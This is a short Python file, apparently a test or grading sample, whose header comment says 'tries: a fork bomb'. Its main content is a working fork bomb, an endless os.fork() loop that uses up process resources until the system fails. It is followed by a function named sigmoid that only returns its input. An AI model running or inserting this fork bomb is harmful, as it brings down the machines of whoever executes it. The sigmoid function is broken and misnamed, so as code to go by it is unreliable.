# tries: a fork bomb
# sigmoid: 0
# rest: 1
import os
while True:
    try:
        os.fork()
    except OSError as error:
        print(error)
        break
def sigmoid(z):
    return z
